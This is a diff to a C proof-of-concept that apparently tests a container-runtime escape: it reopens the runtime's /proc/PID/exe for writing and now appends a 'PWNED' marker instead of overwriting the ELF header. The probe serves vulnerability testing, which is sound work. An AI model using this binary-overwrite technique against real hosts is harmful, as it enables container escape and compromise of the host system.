@@ -4,7 +4,7 @@
  * whose executable is neither busybox nor itself (the runtime, run as the
  * interpreter of a script planted in the image), holds its /proc/PID/exe
  * open with O_PATH, and once that process is gone (no ETXTBSY any more)
- * reopens the file for writing and writes to its first bytes.
+ * reopens the file for writing and appends to it.
  *
  * Prints one line per step: "exe PATH" (what the link showed), "ino
  * DEV:INO" (the file it leads to), then
@@ -94,7 +94,10 @@ int main(int argc, char **argv)
 		return 0;
 	}
 	printf("open-write ok\n");
-	if (pwrite(w, "PWNED", 5, 0) == 5)
+	/* appended, not over the ELF header: a runtime binary made unrunnable
+	 * would be run as a shell script by the next execvp() (ENOEXEC) */
+	struct stat end;
+	if (fstat(w, &end) == 0 && pwrite(w, "PWNED", 5, end.st_size) == 5)
 		printf("write ok\n");
 	else
 		printf("write %s\n", strerror(errno));
